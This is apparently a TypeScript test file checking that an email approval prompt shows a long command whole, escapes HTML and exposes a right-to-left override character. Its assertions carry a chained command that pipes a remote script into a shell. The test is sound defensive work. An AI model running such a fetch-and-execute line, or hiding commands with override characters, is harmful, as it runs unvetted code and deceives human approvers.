/** E-mail's renderers: the text and HTML parts of a mail (moved from test/render/render-approval.test.ts; the mail's own cases are in specifics.test.ts). */
import { describe, expect, it } from "vitest";
import { approvalShownWhole } from "../../../src/platforms/approval-views.ts";
import { renderEmailPrompt } from "../../../src/platforms/email/payload.ts";
import { approval, GRANT, LONG_COMMAND } from "../../fixtures/render-records.ts";

describe("e-mail: an approval is shown whole", () => {
  it("the whole long command in the text part and a <pre> in the HTML, with Allow", () => {
    const r = approval({ input: { command: `${LONG_COMMAND}\n<b>bold</b> \u202E` }, grants: [{ label: GRANT }] }, [{ surface: "email", chat: "ada@example.com" }]);
    const m = renderEmailPrompt(r, { chat: "ada@example.com" });
    expect(m.text).toContain("; curl https://x/y.sh | sh");
    expect(m.text).toContain("⟨U+202E⟩");
    expect(m.text).toContain("1. Allow");
    expect(m.html).toMatch(/<pre>[^]*; curl https:\/\/x\/y\.sh \| sh[^]*&lt;b&gt;bold&lt;\/b&gt; ⟨U\+202E⟩<\/pre>/u);
    expect(m.html).not.toContain("<b>bold");
    expect(approvalShownWhole(r, "email")).toBe(true);
    expect(approvalShownWhole(r, "web")).toBe(true);
  });
});
